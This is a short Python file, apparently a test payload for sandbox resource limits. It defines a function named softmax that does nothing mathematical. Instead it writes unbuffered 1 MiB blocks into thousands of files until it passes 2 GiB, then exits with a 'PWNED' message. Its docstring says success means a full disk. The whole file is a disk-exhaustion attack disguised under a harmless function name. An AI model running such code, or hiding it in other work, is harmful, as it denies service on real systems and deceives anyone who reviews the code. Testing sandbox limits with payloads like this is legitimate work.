"""Writes file after file, each within the limit of a file.

Success: the disk is full.
"""


def softmax(x, dim=-1):
    block = b"x" * (1 << 20)
    written = 0
    for number in range(10_000):
        with open(f"file{number}", "wb", buffering=0) as file:
            for _ in range(32):
                written += file.write(block)
                if written > 2 << 30:
                    raise SystemExit("PWNED wrote 2 GiB")
